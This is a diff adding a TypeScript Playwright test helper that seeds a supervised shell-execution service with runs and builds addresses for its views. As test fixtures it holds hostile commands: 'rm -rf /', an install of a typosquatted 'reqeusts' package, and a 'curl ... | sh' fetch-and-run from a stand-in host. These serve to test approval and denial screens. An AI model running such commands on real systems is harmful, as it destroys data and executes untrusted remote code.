@@ -1,0 +1,38 @@
+import type { Page } from 'playwright-core'
+import { type Service, startService, until } from './helper.ts'
+
+/** A service in which something has run, failed and been denied, something waits for an answer, and a terminal may be opened. */
+export async function busyService(): Promise<Service> {
+  const service = await startService({
+    env: {
+      SHELLPHONE_POLICY: 'supervised',
+      SHELLPHONE_TERMINAL: 'on',
+      SHELLPHONE_APPROVAL_TIMEOUT_SECONDS: '600',
+    },
+  })
+  for (const command of ['uname -a', 'ls /no-such', 'rm -rf /', "printf '\\033[1;32mgreen\\033[0m\\n'; seq 1 30"]) {
+    await service.exec({ command })
+  }
+  await service.post('/exec', { command: 'pip install reqeusts', background: true })
+  return service
+}
+
+/** The address of every view by its name, with a run that has ended and a terminal among them. */
+export async function addressesOf(service: Service): Promise<[name: string, address: string][]> {
+  const { runs } = (await (await service.request('/runs?q=seq')).json()) as { runs: { id: string }[] }
+  const opened = await service.post('/exec', { command: 'cat', tty: { rows: 24, columns: 80 }, background: true })
+  const { id } = (await opened.json()) as { id: string }
+  const plain = ['run', 'runs', 'approvals', 'rules', 'policy', 'terminal', 'phone', 'settings', 'access', 'more']
+  return [
+    ...plain.map((name): [string, string] => [name, `#/${name}`]),
+    ['one-run', `#/runs/${runs[0]!.id}`],
+    ['one-terminal', `#/terminal/${id}`],
+    ['policy-answer', `#/policy?command=${encodeURIComponent('curl https://x.example/i.sh | sh')}`],
+  ]
+}
+
+/** What a view asks for has come, and nothing moves any more. */
+export async function isSettled(page: Page): Promise<void> {
+  await until(async () => (await page.locator('.state.loading').count()) === 0, 20_000)
+  await page.waitForTimeout(350)
+}
